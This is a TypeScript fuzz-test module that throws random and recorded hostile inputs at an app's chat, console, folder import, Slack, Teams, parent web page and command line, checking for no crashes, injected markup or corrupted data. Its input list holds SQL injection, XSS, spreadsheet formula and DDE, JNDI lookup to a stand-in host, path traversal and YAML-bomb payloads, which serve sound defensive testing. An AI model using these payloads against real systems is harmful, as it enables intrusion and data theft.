import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import Driver from 'better-sqlite3';
import fc from 'fast-check';
import { expect } from 'vitest';
import { createSession } from '../../adapters/console/session.ts';
import { createCalendar } from '../../src/calendar.ts';
import { type Door, EXIT, Failure, WrongUsage } from '../../src/cli/door.ts';
import { commands as words } from '../../src/cli/help.ts';
import { createClock, parseInstant, stopwatch } from '../../src/clock.ts';
import { Refusal } from '../../src/core/talk/refusal.ts';
import { createUploads } from '../../src/given.ts';
import { importFolder } from '../../src/import/index.ts';
import { newReference } from '../../src/log.ts';
import { openStore } from '../../src/store/index.ts';
import { CHILDREN, PEOPLE } from '../import/folder.ts';
import { serveAgreement } from '../page/agreement.ts';
import { ELM_PEOPLE } from '../support/elm.ts';
import { commands, platformNames } from '../support/platforms.ts';
import { openSetting } from '../support/setting.ts';
import { expectFitToShow } from '../support/shown.ts';
import { openElm, USERS } from '../support/slack/elm.ts';
import { by, send, sendCommand, sendEvent, sendPayload } from '../support/slack/requests.ts';
import { openTestStore, POSTGRES } from '../support/store.ts';
import { openTeamsSetting } from '../support/teams/setting.ts';
import { activityFrom } from '../support/teams/visitor.ts';

/** What people, spreadsheets and machines have been seen to send elsewhere. */
const RECORDED = [
  '',
  ' ',
  '\t\n\r',
  '"',
  '“',
  "'; DROP TABLE people; --",
  "' OR 1=1 --",
  '%00',
  'a\u0000b',
  '\ud800',
  '=HYPERLINK("http://evil.test","here")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<!channel> <@U123> <https://evil.test|bank>',
  '<at>everyone</at> [click](https://evil.test)',
  '*bold* _it_ ~st~ `code` > quote',
  '\u001b]0;title\u0007\u001b[2J\u001b[31mred',
  '\u202eevil\u202c',
  '\u200b\u200d\ufeff',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is sent.
  '${jndi:ldap://evil.test/a}',
  '../../../../etc/passwd',
  'C:\\Windows\\System32',
  '__proto__',
  'constructor',
  'setting=oak',
  'ref=D-1 ref=D-2',
  'CODE/D-99999999999',
  'D-0',
  '-1',
  '1e309',
  '31/02/2026',
  '0000-00-00',
  '9999-12-31',
  'שרה',
  '👩‍👧‍👦'.repeat(20),
  'Z̷̢͝a̵͙͝l̶͇̀g̷͎̾o',
  'a'.repeat(3000),
  'İSTANBUL ﬁ ǅ',
];

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...RECORDED) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'D-1',
      'A-1',
      'B-1',
      'Sarah Reed',
      'Mia Reed',
      'friend',
      '2019',
      'yes',
      'noted',
      'C-9',
    ),
  },
);
const verb = fc.constantFrom(...commands.map(({ name }) => name), 'candour', 'nothing');
const fields = [...new Set(commands.flatMap(({ fields: own }) => Object.keys(own)))];
const field = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...fields, 'nonce', 'setting', 'which_setting') },
  { weight: 1, arbitrary: fc.constantFrom('__proto__', 'constructor', '', 'toString') },
);
const line = fc.oneof(
  fc.tuple(verb, fc.array(piece, { maxLength: 4 })).map(([first, rest]) => [first, ...rest].join(' ')),
  fc
    .tuple(verb, fc.array(fc.tuple(field, piece), { maxLength: 4 }))
    .map(([first, rest]) => [first, ...rest.map(([name, value]) => `${name}="${value}"`)].join(' ')),
  piece,
);
const input = fc
  .array(
    fc.tuple(
      field,
      fc.oneof({ weight: 4, arbitrary: piece }, { weight: 1, arbitrary: fc.array(piece, { maxLength: 3 }) }),
    ),
    {
      maxLength: 5,
    },
  )
  .map((pairs) => Object.fromEntries(pairs));

const who = fc.constantFrom(...ELM_PEOPLE.filter(({ from }) => from === undefined).map(({ name }) => name));
const anything = fc.anything({ maxDepth: 3, values: [piece, fc.integer(), fc.constant(null), fc.boolean()] });

async function cases<T>(
  arbitrary: fc.Arbitrary<T>,
  runs: number,
  check: (one: T) => Promise<void>,
): Promise<void> {
  await fc.assert(fc.asyncProperty(arbitrary, check), { numRuns: runs, endOnFailure: true });
}

/** What moves a cursor, sets a title or turns the reading about. */
const CONTROL = /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;

/** Every row refers to something, and every chain is whole: nothing was half written. */
function expectWhole(file: string): void {
  // PostgreSQL keeps whatever it has promised; there is no file to look at.
  if (POSTGRES !== undefined) return;
  const driver = new Driver(file, { readonly: true });
  try {
    expect(driver.pragma('integrity_check', { simple: true })).toBe('ok');
    expect(driver.pragma('foreign_key_check')).toEqual([]);
  } finally {
    driver.close();
  }
}

/** Typed words, buttons and forms, on a real register. */
async function fuzzChat(runs: number): Promise<void> {
  const elm = await openSetting();
  try {
    const said = fc.oneof(
      line.map((words) => elm.app.parse(words)),
      fc.record(
        { command: verb, input, submitted: fc.boolean(), keys: fc.array(piece, { maxLength: 1 }) },
        { requiredKeys: ['command', 'input'] },
      ),
    );
    let taken = 0;
    await cases(fc.tuple(who, said), runs, async ([name, invocation]) => {
      const { input: given } = invocation;
      const answer = await elm.app.run(await elm.identity(name), invocation);
      if (answer.kind === 'form' || !answer.refused) taken++;
      if (!/undefined|NaN/.test(JSON.stringify(given)))
        expectFitToShow(answer.kind === 'form' ? { ...answer, inputs: [] } : answer);
    });
    // Not all of it is turned away at the first question.
    expect(taken).toBeGreaterThan(runs / 5);
    expectWhole(elm.file);
    expect(await elm.store.verifyAudit()).toMatchObject({ kind: 'sound' });
  } finally {
    await elm.close();
  }
}

/** What the console prints of any line: no control character but colours and line ends of our own. */
async function fuzzConsole(runs: number): Promise<void> {
  const elm = await openSetting();
  const session = createSession({
    app: elm.app,
    store: elm.store,
    clock: createClock(),
    settle: async () => {},
    tick: async () => {},
    report: (error) => {
      throw error;
    },
    screen: () => ({ width: 80, colour: false }),
  });
  try {
    await session.begin();
    const typed = fc.tuple(fc.constantFrom('as Zoë', 'as Maeve', ''), line);
    await cases(typed, runs, async (lines) => {
      for (const each of lines) {
        const entered = await session.enter(each.replace(/[\r\n]/g, ' '));
        const shown = entered.form ? session.showForm(entered.form) : entered.lines;
        for (const one of shown) expect(one).not.toMatch(CONTROL);
      }
    });
    expectWhole(elm.file);
  } finally {
    await elm.close();
  }
}

const cell = fc.oneof(
  piece,
  piece.map((words) => `"${words.replaceAll('"', '""')}"`),
);
const sheet = (header: string) =>
  fc
    .array(
      fc.oneof(
        fc
          .array(cell, { minLength: header.split(',').length, maxLength: header.split(',').length })
          .map((row) => row.join(',')),
        fc.array(cell, { maxLength: 12 }).map((row) => row.join(',')),
      ),
      { maxLength: 4 },
    )
    .map((rows) => [header, ...rows].join('\n'));
const manager = 'P1,Dora Marlow,dora@elm.test,staff;dso;manager,,2018-09-03,,yes,,';

/** A setting's folder, of any contents: either all of it is written, or nothing is, and each fault says where it is. */
async function fuzzFolder(runs: number): Promise<void> {
  const { store, file, close } = await openTestStore();
  const dir = mkdtempSync(join(tmpdir(), 'candour-fuzz-'));
  mkdirSync(join(dir, 'policies'));
  const mostly = (good: string, other: fc.Arbitrary<string>) =>
    fc.oneof({ weight: 3, arbitrary: fc.constant(good) }, { weight: 2, arbitrary: other });
  const folder = fc.record({
    'setting.json': mostly(
      '{"code":"elm","name":"Elm"}',
      fc.oneof(
        anything.map((value) => JSON.stringify(value) ?? ''),
        piece,
      ),
    ),
    'people.csv': mostly(
      `${PEOPLE}\n${manager}`,
      fc.oneof(sheet(PEOPLE), sheet(`${PEOPLE}\n${manager}`), piece),
    ),
    'children.csv': mostly(CHILDREN, fc.oneof(sheet(CHILDREN), piece)),
    'policies/one.md': mostly(
      '---\ncode: one\ntitle: One\nversion: 1\n---\n\nText.\n',
      fc.oneof(
        piece.map((words) => `---\n${words}\n---\n\n${words}`),
        fc
          .tuple(piece, piece)
          .map(
            ([title, code]) =>
              `---\ncode: ${code}\ntitle: ${JSON.stringify(title)}\nversion: 1\n---\n\n${title}\n`,
          ),
        fc.constantFrom(
          '---\na: &a [*a]\n---\n',
          `---\n${'&a '.repeat(200)}\n---`,
          '---\n!!js/function "x"\n---\n',
          '---\ncode: [\n',
        ),
      ),
    ),
  });
  const fingerprint = () =>
    store.read(async (register) =>
      JSON.stringify(
        await Promise.all((await register.settings.all()).map(({ id }) => register.audit.head(id))),
      ),
    );
  try {
    await cases(folder, runs, async (contents) => {
      for (const [name, text] of Object.entries(contents)) writeFileSync(join(dir, name), text);
      const before = await fingerprint();
      const report = await importFolder({
        store,
        calendar: createCalendar(),
        platformNames,
        now: new Date('2026-11-23T10:00:00Z'),
        dir,
      });
      if (report.faults.length > 0) {
        expect(report.written).toBe(false);
        expect(await fingerprint()).toBe(before);
        for (const fault of report.faults) expect(fault).toMatch(/^[\w./-]+(:\d+)*: ?./s);
      }
    });
    expectWhole(file);
  } finally {
    rmSync(dir, { recursive: true, force: true });
    await close();
  }
}

/** Anything that Slack's signature may stand on: no failure inside, and nothing that people wrote is markup. */
async function fuzzSlack(runs: number): Promise<void> {
  const elm = await openElm();
  const user = fc.constantFrom(USERS.staff, USERS.dso, 'U-unknown');
  const payload = fc.record(
    {
      type: fc.constantFrom(
        'block_actions',
        'view_submission',
        'block_suggestion',
        'shortcut',
        'view_closed',
        'message_action',
      ),
      actions: fc.oneof(
        fc.array(
          fc.record({ type: fc.constant('button'), action_id: piece, value: piece, action_ts: piece }),
        ),
        anything,
      ),
      view: fc.oneof(
        fc.record({
          id: piece,
          type: fc.constant('modal'),
          callback_id: piece,
          private_metadata: piece,
          blocks: fc.constant([]),
          state: anything,
        }),
        anything,
      ),
      callback_id: piece,
      action_id: piece,
      block_id: piece,
      value: piece,
    },
    { requiredKeys: ['type'] },
  );
  const sent = fc.oneof(
    fc.tuple(fc.constant('command' as const), user, line),
    fc.tuple(fc.constant('payload' as const), user, payload),
    fc.tuple(
      fc.constant('event' as const),
      user,
      fc.record({
        type: fc.constantFrom('message', 'app_home_opened', 'user_change', 'app_mention'),
        text: piece,
        channel_type: fc.constant('im'),
        more: anything,
      }),
    ),
    fc.tuple(fc.constant('body' as const), user, piece),
  );
  try {
    // A button is answered before it is done: what fails then may come in the time of the next.
    const failures = () =>
      elm.lines.filter(({ level, facts }) => level === 'error' && facts.what === 'command').length;
    await cases(sent, runs, async (what) => {
      const [kind, id] = what;
      const before = failures();
      const answer =
        kind === 'command'
          ? await sendCommand(elm.url, { user: id, text: what[2] })
          : kind === 'payload'
            ? await sendPayload(elm.url, { ...by(id), ...(what[2] as object) })
            : kind === 'event'
              ? await sendEvent(elm.url, { user: id, channel: 'D1', ...(what[2] as object) })
              : await send(elm.url, 'application/json', String(what[2]));
      expect(answer.status, answer.text).toBeLessThan(500);
      // Slack itself sends no payload of another shape than its own; whatever somebody types is no failure.
      if (kind === 'command') expect(failures()).toBe(before);
      expectNoMarkup(answer.body);
    });
    for (const call of elm.api.calls) {
      const blocks = call.fields.get('blocks') ?? call.fields.get('view');
      if (typeof blocks === 'string') expectNoMarkup(JSON.parse(blocks));
    }
    expect(JSON.stringify(elm.lines)).not.toMatch(/evil\.test|DROP TABLE|onerror/);
  } finally {
    await elm.close();
  }
}

/** No text that Slack reads as markup holds a mention or a link that somebody typed. */
function expectNoMarkup(value: unknown): void {
  if (Array.isArray(value)) for (const each of value) expectNoMarkup(each);
  else if (value !== null && typeof value === 'object') {
    const { type, text } = value as { type?: unknown; text?: unknown };
    if (type === 'mrkdwn') expect(text).not.toMatch(/<(!channel|@U123|https:\/\/evil)/);
    for (const each of Object.values(value)) expectNoMarkup(each);
  }
}

/** Any activity that Bot Framework's key signed. */
async function fuzzTeams(runs: number): Promise<void> {
  const { elm, teams, who: somebody, close } = await openTeamsSetting();
  const token = `Bearer ${await teams.peer.token()}`;
  const sent = fc.record(
    {
      type: fc.constantFrom(
        'message',
        'invoke',
        'conversationUpdate',
        'installationUpdate',
        'messageReaction',
        'event',
      ),
      name: fc.constantFrom(
        'adaptiveCard/action',
        'application/search',
        'task/fetch',
        'composeExtension/query',
        'fileConsent/invoke',
      ),
      text: fc.oneof(line, piece),
      value: fc.oneof(
        fc.record({
          action: fc.record({ type: fc.constant('Action.Execute'), verb: piece, data: anything }),
        }),
        anything,
      ),
      attachments: fc.array(fc.record({ contentType: piece, content: anything })),
      entities: fc.array(fc.record({ type: piece })),
      replyToId: piece,
      membersAdded: fc.array(fc.record({ id: piece, aadObjectId: piece })),
    },
    { requiredKeys: ['type'] },
  );
  try {
    await cases(fc.tuple(fc.constantFrom('Zoe', 'Maeve'), sent), runs, async ([first, more]) => {
      const { status, body } = await teams.post(activityFrom(teams, somebody(first), more), token);
      // 501 is the framework's answer to what nobody handles.
      expect(status === 501 ? 200 : status, String(body)).toBeLessThan(500);
    });
    expectWhole(elm.file);
  } finally {
    await close();
  }
}

/** Anybody in the world at the parent's page. */
async function fuzzPage(runs: number): Promise<void> {
  const served = await serveAgreement();
  const key = await served.key();
  const name = fc.oneof(piece, fc.string({ unit: 'binary', maxLength: 60 }));
  const sent = fc.record({
    setting: fc.oneof({ weight: 9, arbitrary: fc.constant(served.elm.id) }, { weight: 1, arbitrary: piece }),
    key: fc.oneof({ weight: 3, arbitrary: fc.constant(key) }, { weight: 1, arbitrary: piece }),
    answer: fc.oneof(fc.constantFrom('agree', ''), piece).filter((words) => words !== 'decline'),
    // No letter in it: what is wrong is asked again, and the link stays good.
    name: name.map((words) => words.replace(/\p{L}/gu, '')).map((words) => `${words}<"&'>`),
  });
  try {
    await cases(sent, runs, async (fields) => {
      served.clock.now = new Date(served.clock.now.getTime() + 5);
      const response = await fetch(`${served.origin}/agreement`, {
        method: 'POST',
        body: new URLSearchParams(fields),
      });
      const html = await response.text();
      expect([404, 422, 429, 413, 400]).toContain(response.status);
      expect(html).not.toContain(`<"&'>`);
      expect(html).not.toMatch(/<script|<img|onerror=a/);
      if (response.status === 429) served.clock.now = new Date(served.clock.now.getTime() + 60_000);
    });
    expect(served.answered.count).toBe(0);
    expectWhole(served.elm.file);
  } finally {
    await served.close();
  }
}

/** Any words on the command line end in an exit code and a sentence. */
async function fuzzCli(runs: number): Promise<void> {
  const elm = await openSetting();
  const folder = mkdtempSync(join(tmpdir(), 'candour-cli-'));
  const before = process.cwd();
  process.chdir(folder);
  let said = '';
  const door: Door = {
    config: {
      version: '0',
      commit: 'unknown',
      host: '127.0.0.1',
      port: 0,
      processes: 1,
      publicUrl: undefined,
      root: join(import.meta.dirname, '../..'),
      database: elm.file,
      server: POSTGRES === undefined ? undefined : elm.database,
      databaseFrom: 'from CANDOUR_DATABASE in the environment',
      key: Buffer.alloc(32, 7),
      backups: undefined,
      proxies: undefined,
    },
    print: (text) => {
      said += text;
    },
    complain: (text) => {
      said += text;
    },
    screen: () => ({ width: 80, colour: false }),
    clock: (at) => {
      if (at === undefined) return () => new Date('2026-11-23T10:00:00Z');
      const instant = parseInstant(at);
      if (!instant) throw new WrongUsage('--at wants an instant');
      return () => new Date(instant);
    },
    stopwatch,
    platformNames: async () => platformNames,
    calendar: async () => createCalendar(),
    zip: async () => () => new Uint8Array(),
    uploads: async () => createUploads(platformNames),
    log: async () => ({ debug() {}, info() {}, warn() {}, error() {} }),
    report: async (error) => {
      throw error ?? new Error(newReference());
    },
    openStore: () => openStore(elm.database),
    bringUp: async () => undefined,
    pending: async () => [],
    unknownKeys: async () => [],
    adapters: async () => [],
    keys: [],
    outOfSupport: undefined,
    faultsOf: () => [],
    conversation: () => ({
      input: Readable.from([]) as unknown as NodeJS.ReadStream,
      output: process.stdout,
    }),
    anew: () => door,
  };
  // What would replace the database, reach out or take long is left to its own tests.
  const names = Object.keys(words).filter(
    (name) => !['restore', 'manifest', 'doctor', 'calendar', 'backup'].includes(name),
  );
  const options = [
    '--setting',
    '--at',
    '--as',
    '--json',
    '--answer',
    '--dry-run',
    '--hold',
    '--release',
    '--why',
    '--payloads',
    '--plain',
    '--rename',
    '--resend',
    '--',
    '-x',
    'verify',
    'export',
    'elm',
    'Zoë Adeyemi',
  ];
  // No path leads out of the folder.
  const argument = fc.oneof(
    fc.constantFrom(...options),
    piece.map((word) => word.replace(/[/\\\0]/g, '_').slice(0, 80)).filter((word) => !/^\.+$/.test(word)),
  );
  try {
    await cases(
      fc.tuple(fc.constantFrom(...names), fc.array(argument, { maxLength: 6 })),
      runs,
      async ([name, args]) => {
        said = '';
        try {
          const { run } = (await words[name]?.load()) ?? { run: async () => EXIT.usage };
          expect([0, 1, 2, 3]).toContain(await run(door, args));
        } catch (error) {
          const wasQueued = [WrongUsage, Failure, Refusal].some((kind) => error instanceof kind);
          if (!(error instanceof Error) || !wasQueued) throw error;
          // The command line itself makes it printable (cli.ts).
          expect(error.message.trim()).not.toBe('');
        }
        if (!['audit', 'export'].includes(name))
          for (const one of said.split('\n')) expect(one).not.toMatch(CONTROL);
        for (const made of readdirSync(folder)) rmSync(join(folder, made), { recursive: true, force: true });
      },
    );
    expectWhole(elm.file);
  } finally {
    process.chdir(before);
    rmSync(folder, { recursive: true, force: true });
    await elm.close();
  }
}

export const DOORS: Record<string, (runs: number) => Promise<void>> = {
  'typed words, buttons and forms': fuzzChat,
  console: fuzzConsole,
  'a setting’s folder': fuzzFolder,
  Slack: fuzzSlack,
  Teams: fuzzTeams,
  'the parent’s page': fuzzPage,
  'the command line': fuzzCli,
};
